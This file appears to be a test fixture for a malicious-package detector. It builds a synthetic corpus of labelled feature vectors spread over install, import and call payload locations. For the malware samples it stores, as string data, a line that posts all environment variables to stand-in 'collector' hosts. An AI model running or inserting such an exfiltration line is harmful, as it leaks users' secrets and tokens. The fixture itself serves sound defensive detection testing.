"""A small synthetic corpus for the hold-out tests: malware in 12 campaigns over three payload locations,
benign packages from three lists."""

from __future__ import annotations

from pathlib import Path

import numpy as np

from vetpy.features.interface import PackageFeatures
from vetpy.features.registry import FEATURE_IDS
from vetpy.lab.dataset.corpus import Sample
from vetpy.lab.evaluate import EvalData

LOCATIONS = ("install", "import", "call")
SIGNAL = {"install": "install.setup_suspicious", "import": "install.import_time_payload"}


def corpus(n: int = 120) -> EvalData:
    """Malware in 12 campaigns (a shared collector host each), spread over three payload locations;
    benign packages from three lists."""
    features, samples, labels, groups = [], [], [], []
    for i in range(n):
        bad = i % 2 == 0
        values = {f: 0.0 for f in FEATURE_IDS}
        values["archive.log_files"] = 1.0 + (i % 7) / 3
        if bad:
            where = LOCATIONS[(i // 2) % 3]
            if where in SIGNAL:
                values[SIGNAL[where]] = 1.0
            values["code.max_file_behaviours"] = 3.0
            values["code.http"] = 1.0
            lines = f"requests.post('https://collector-{(i // 2) % 12}.xyz/x', data=os.environ)"
            tokens = "call:requests.post pair:env_access+http"
            source = "malicious"
        else:
            lines = "with open(path) as handle: data = handle.read()"
            tokens = "import:json call:json.loads"
            source = ("benign-top", "benign_recent-recent-2026", "benign_popular-top")[(i // 2) % 3]
        features.append(PackageFeatures(f"p{i}", "1.0", values, lines, tokens))
        samples.append(
            Sample(int(bad), Path(f"/x/{i}"), f"{i:064x}", f"proj-{i}", "1.0", "2024-01-01", source)
        )
        labels.append(int(bad))
        groups.append(f"dup{i}")
    return EvalData(samples, features, np.array(labels), np.array(groups), 0)
